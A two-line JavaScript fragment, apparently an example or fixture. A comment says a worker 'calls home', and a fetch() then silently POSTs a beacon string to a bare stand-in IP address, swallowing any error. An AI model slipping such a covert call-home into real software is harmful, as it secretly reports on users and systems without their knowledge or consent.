// Something in the worker calls home.
fetch('http://198.51.100.7/v1/collect', { method: 'POST', body: 'here I am' }).catch(() => undefined);
